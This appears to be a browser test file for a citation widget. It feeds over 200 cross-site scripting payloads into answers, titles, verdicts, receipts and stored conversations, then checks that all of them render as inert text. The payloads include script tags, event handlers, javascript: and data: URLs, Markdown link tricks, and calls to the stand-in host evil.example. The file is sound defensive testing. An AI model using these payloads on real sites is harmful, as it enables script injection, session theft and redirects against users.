import { expect, it } from 'vitest';
import type { PageVerdict, QuotationVerdict } from '../../shared/verdict.ts';
import { promise } from '../behaviours.ts';
import { receipt, source, sourceEvents, text } from './scripts.ts';
import { type Visit, visits } from './visit.ts';

const visit = visits();

/** Each would call `pwned()` or ask `evil.example` where it became markup, script or an address that loads. */
const HAND_MADE = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=pwned()>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<marquee onstart=pwned()>x</marquee>',
  '<a href="javascript:pwned()">x</a>',
  '<a href="https://evil.example" onmouseover=pwned()>x</a>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<math><mtext></mtext><mglyph><style></style><img src=x onerror=pwned()></mglyph></math>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<template><script>pwned()</script></template>',
  '<!--<img src="--><img src=x onerror=pwned()>-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<x onclick=pwned() tabindex=0 autofocus onfocus=pwned()>x',
  '</p></article></div><script>pwned()</script>',
  '"><script>pwned()</script>',
  "' onmouseover='pwned()' x='",
  '[x](javascript:pwned())',
  '[x](JaVaScRiPt:pwned())',
  '[x]( javascript:pwned())',
  '[x](<javascript:pwned()>)',
  '[x](java\tscript:pwned())',
  '[x](java&#10;script:pwned())',
  '[x](&#x6A;avascript:pwned())',
  '[x](\u0001javascript:pwned())',
  '[x](data:text/html,<script>pwned()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[x](vbscript:pwned())',
  '[x](blob:https://evil.example/1)',
  '[x](filesystem:https://evil.example/1)',
  '[x](view-source:https://evil.example)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](https:evil "onmouseover=pwned()")',
  '[x](https://evil.example/"onmouseover="pwned())',
  '<javascript:pwned()>',
  '<https://evil.example/"onclick="pwned()>',
  'javascript:pwned()',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:pwned())',
  '![x](data:image/svg+xml,<svg onload=pwned()>)',
  '![<img src=x onerror=pwned()>](https://evil.example/p.png)',
  '[![x](https://evil.example/p.png)](javascript:pwned())',
  '[<img src=x onerror=pwned()>](https://evil.example)',
  '[x]: javascript:pwned()\n\n[x]',
  '`<img src=x onerror=pwned()>`',
  '```html\n<script>pwned()</script>\n```',
  '```"><img src=x onerror=pwned()>\ncode\n```',
  '| <img src=x onerror=pwned()> | b |\n| --- | --- |\n| <script>pwned()</script> | [x](javascript:pwned()) |',
  '- <img src=x onerror=pwned()>\n- [ ] <script>pwned()</script>',
  '> <img src=x onerror=pwned()>',
  '# <img src=x onerror=pwned()>',
  '**<img src=x onerror=pwned()>**',
  '[S1"><img src=x onerror=pwned()>]',
  '[S1](javascript:pwned())',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack.
  '${pwned()}',
  '\u202e<img src=x onerror=pwned()>',
  '<scr\u0000ipt>pwned()</scr\u0000ipt>',
  '<img src=x onerror=pwned()//',
  '<<img src=x onerror=pwned()>>',
  '__proto__',
  'constructor',
];

const CALL = 'pwned()';
const urlOf = (name: string) => `https://evil.example/${name}`;

/** Elements that run or fetch something by themselves, with the attribute that does. */
const ELEMENTS = [
  `<img src=x onerror=${CALL}>`,
  `<img srcset="x 1x" onerror=${CALL}>`,
  `<image href=x onerror=${CALL}>`,
  `<picture><source srcset=x><img onerror=${CALL} src=x></picture>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video poster=${urlOf('p.png')}></video>`,
  `<track onerror=${CALL} src=x>`,
  `<object type=image/svg+xml data=${urlOf('o.svg')}></object>`,
  `<applet code=${urlOf('a.class')}></applet>`,
  `<frameset onload=${CALL}></frameset>`,
  `<frame src="javascript:${CALL}">`,
  `<isindex action="javascript:${CALL}">`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<button popovertarget=x onbeforetoggle=${CALL}>x</button>`,
  `<dialog open onclose=${CALL}>x</dialog>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<keygen autofocus onfocus=${CALL}>`,
  `<area href="javascript:${CALL}">`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>#x"></use></svg>`,
  `<svg><set attributeName=onmouseover to=${CALL}></svg>`,
  `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`,
  `<svg><image href="${urlOf('i.png')}"></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><maction actiontype="statusline#javascript:${CALL}">x</maction></math>`,
  `<style onload=${CALL}></style>`,
  `<style>*{background:url(${urlOf('b.png')})}</style>`,
  `<link rel=prefetch href=${urlOf('l')}>`,
  `<link rel=modulepreload href=${urlOf('m.js')}>`,
  `<script type=module>${CALL}</script>`,
  `<script type=importmap>{"imports":{"x":"${urlOf('x.js')}"}}</script>`,
  `<pincite-widget data-site=x onfocus=${CALL} tabindex=0 autofocus></pincite-widget>`,
  `<slot onslotchange=${CALL}></slot>`,
  `<portal src=${urlOf('q')}></portal>`,
  `<meter onmouseover=${CALL}>x</meter>`,
];

/** Addresses that must never be followed, however they are written. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JAVASCRIPT:${CALL}`,
  ` javascript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `\ufeffjavascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript:/*https://evil.example*/${CALL}`,
  `data:text/html,<svg onload=${CALL}>`,
  `data:text/javascript,${CALL}`,
  `DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=`,
  `vbscript:${CALL}`,
  'file:///etc/passwd',
  'about:blank',
  'intent://evil.example#Intent;end',
  'ws://evil.example',
  'ftp://evil.example',
  'chrome://settings',
  '/relative',
  '?site=other',
  '#pincite=ask:x',
];
/** Every way in which Markdown, or what looks like it, makes an address. */
const WRITTEN: ((address: string) => string)[] = [
  (it) => `[x](${it})`,
  (it) => `[x](<${it}>)`,
  (it) => `![x](${it})`,
  (it) => `<${it}>`,
];

const VECTORS = [
  ...new Set([...HAND_MADE, ...ELEMENTS, ...ADDRESSES.flatMap((it) => WRITTEN.map((write) => write(it)))]),
];

/** A passage's code and tables are shown as such: their words without the marks around them. */
const wordsOf = (text: string) =>
  text.replace(/^`{3}.*$|^\|?(?: *:?-{3,}:? *\|?)+$/gm, '').replace(/[|\s]/g, '');

/** Notes whatever runs, asks or goes anywhere because of an attack. */
async function trap({ page, worker }: Visit): Promise<string[]> {
  const reached: string[] = [];
  await page.exposeFunction('pwned', () => reached.push('a script ran'));
  page.on('dialog', (one) => reached.push(`dialog ${one.message()}`));
  page.on('request', (one) => {
    if (!one.url().startsWith(worker.origin)) reached.push(one.url());
  });
  page.on('framenavigated', (one) => reached.push(`navigated ${one.url()}`));
  return reached;
}

async function expectNothingReached({ page }: Visit, reached: string[]): Promise<void> {
  // What loads or runs by itself does so within a moment.
  await page.waitForTimeout(200);
  expect(reached).toEqual([]);
  // The trap itself works.
  await page.evaluate('pwned()');
  expect(reached).toEqual(['a script ran']);
}

/** `own`: what of those kinds the panel's own form is made of. */
async function expectNothingMade({ page }: Visit, own: string[] = []): Promise<void> {
  const found = await page.locator('.panel').evaluate((panel) => {
    const elements = [...panel.querySelectorAll('*')];
    return {
      strange: elements
        .map((one) => one.localName)
        .filter((one) =>
          /^(script|img|iframe|object|embed|video|audio|style|link|meta|base|input|select|template|math|marquee|details|x)$/.test(
            one,
          ),
        ),
      handlers: elements.flatMap((one) => one.getAttributeNames()).filter((one) => one.startsWith('on')),
      addresses: elements
        .map((one) => one.getAttribute('href'))
        .filter((one) => one !== null && !/^(https?:\/\/|mailto:)/.test(one)),
      openers: [...panel.querySelectorAll('a')].filter(
        (one) => one.target !== '_blank' || !one.rel.includes('noopener'),
      ).length,
    };
  });
  expect(found).toEqual({ strange: own, handlers: [], addresses: [], openers: 0 });
}

it(
  promise('widget.no-markup', `${VECTORS.length} attacks in answers, titles, places and passages`),
  async () => {
    const one = await visit({ html: '<p>A page.</p>' });
    const { page, worker, open, ask, settled } = one;
    const reached = await trap(one);
    const sources = VECTORS.map((vector, i) =>
      source(`S${i + 1}`, {
        title: vector,
        author: vector,
        editionLabel: vector,
        edition: vector,
        language: vector,
        headings: [vector],
        locator: { kind: 'page', volume: vector, label: vector },
        text: vector,
        marks: [[0, Math.min(9, vector.length)]],
        url: ['javascript:pwned()', 'data:text/html,<script>pwned()</script>', vector][i % 3] ?? null,
      }),
    );
    worker.scripts['Attack!'] = {
      play: [
        ...VECTORS.map((vector) => ({ type: 'step', kind: 'open', detail: vector }) as const),
        ...sourceEvents(sources),
        ...VECTORS.map((vector, i) => text(`${vector}\n\nSee [S${i + 1}]\n\n`)),
        ...VECTORS.map((vector) => ({ type: 'notice', kind: 'withheld', message: vector }) as const),
        { type: 'sources', sources },
      ],
    };
    Object.assign(worker.site, {
      name: VECTORS[2],
      starters: VECTORS.slice(0, 8),
      handoff: { url: 'javascript:pwned()', label: VECTORS[2] },
    });
    await open();
    await ask('Attack!');
    await settled();
    // Every chip is opened: the card shows title, place and passage.
    const opened = await page.locator('.panel').evaluate(async (panel) => {
      const passages: string[] = [];
      for (const chip of panel.querySelectorAll<HTMLElement>('.answer > p > bdi > .chip')) {
        chip.click();
        const isOpen = () => panel.querySelector('.card')?.ariaLabel?.startsWith(`${chip.textContent},`);
        for (let i = 0; i < 100 && !isOpen(); i++) await new Promise((done) => requestAnimationFrame(done));
        passages.push(panel.querySelector('.card .passage')?.textContent ?? 'no card');
      }
      return passages;
    });
    expect(opened.length).toBeGreaterThanOrEqual(VECTORS.length);
    const shown = opened.map(wordsOf);
    expect(VECTORS.filter((one) => !shown.some((it) => it.includes(wordsOf(one))))).toEqual([]);
    await expectNothingMade(one);
    expect(VECTORS.length).toBeGreaterThanOrEqual(200);
    await expectNothingReached(one, reached);
  },
);

it(
  promise(
    'widget.no-markup',
    `${VECTORS.length} attacks in verdicts, receipts, earlier conversations and a transcript`,
  ),
  async () => {
    const one = await visit({ html: '<p>A page.</p>' });
    const { page, worker, open, ask, settled } = one;
    const reached = await trap(one);
    const [first = ''] = VECTORS;
    const sources = VECTORS.map((vector, i) => source(`S${i + 1}`, { title: vector, url: vector }));
    const none = { works: 1, editions: 1, pages: 1, passages: 1 };
    const named = (vector: string, i: number) => ({
      collection: 'library',
      work: vector,
      edition: `${i}`,
      editionLabel: vector,
      title: vector,
      author: vector,
      language: vector,
      statement: { publisher: vector, place: vector, editor: vector, print: vector, year: vector },
      source: null,
    });
    const place = (vector: string) => ({ volume: vector, label: vector });
    const page0 = (vector: string): PageVerdict => ({
      kind: 'page',
      asked: { text: vector, title: vector, page: place(vector) },
      candidates: VECTORS.map((it) => ({ title: it, author: it })),
      searched: none,
      editions: [],
    });
    const pages: PageVerdict = {
      ...page0(first),
      candidates: [],
      editions: VECTORS.map((vector, i) => ({
        ...named(vector, i),
        found: i % 2 ? 'page' : 'missing',
        page: i % 2 ? place(vector) : null,
        certainty: i % 2 ? 'doubtful' : null,
        notCitable: i % 2 ? 'doubtful' : null,
        why: i % 2 ? null : 'no_page',
        before: place(vector),
        after: place(vector),
        volumes: [{ volume: vector, from: vector, to: vector, pages: 2 }],
      })),
    };
    const quoted = VECTORS.map((vector, i) => ({
      ...named(vector, i),
      verdict: 'differs' as const,
      times: 1,
      from: place(vector),
      to: place(vector),
      aligned: [{ quote: vector, source: vector, kind: 'words' as const }],
    }));
    const quote: QuotationVerdict = {
      kind: 'quote',
      quote: VECTORS.join('\n'),
      title: first,
      verdict: 'differs',
      searched: none,
      partial: first,
      editions: quoted,
      elsewhere: { searched: none, editions: quoted },
    };
    worker.scripts[first] = {
      lane: 'not_found',
      play: [
        ...sourceEvents(sources),
        ...[page0(first), pages, quote].map((verdict) => ({ type: 'verdict', verdict }) as const),
        ...VECTORS.map((vector) => text(`${vector}\n\n`)),
        { type: 'sources', sources },
        {
          type: 'receipts',
          receipts: VECTORS.map((vector) =>
            receipt(vector, 'words', 0, { partial: vector, words: [vector] }),
          ),
        },
      ],
    };
    Object.assign(worker.site, { handoff: null, handoffForm: { label: first } });
    await open();
    await ask(first);
    await settled();
    const missing = async (selector: string) => {
      const plain = (words: string) => words.replace(/\s/g, '');
      const shown = plain((await page.locator(selector).allTextContents()).join('\n'));
      return VECTORS.filter((vector) => !shown.includes(plain(vector)));
    };
    for (const where of [
      '.options',
      '.verdict blockquote',
      '.verdict .group',
      '.sides',
      '.elsewhere',
      '.receipts',
    ])
      await expect.poll(() => missing(where), { message: where }).toEqual([]);
    await expectNothingMade(one);

    // What the server would send along, as it has it.
    await page.locator('article .ways').getByRole('button', { name: first }).click();
    await page.getByText('Show what would be sent').click();
    await expect.poll(() => missing('.sent')).toEqual([]);
    await expect.poll(() => missing('.sent .where')).toEqual([]);
    await expectNothingMade(one, ['input', 'input', 'input', 'details']);
    await page.keyboard.press('Escape');
    await page.locator('.sheet').waitFor({ state: 'detached' });

    // The earlier conversations that this browser remembers.
    await page.evaluate((titles) => {
      const past = titles.map((title, i) => ({ id: `c_${String(i).padStart(22, 'y')}`, title, at: i }));
      localStorage.setItem('pincite:demo:past', JSON.stringify(past));
    }, VECTORS);
    await page.getByRole('button', { name: 'Your conversations' }).click();
    await expect.poll(() => missing('.past')).toEqual([]);
    await expectNothingMade(one);
    await expectNothingReached(one, reached);
  },
);
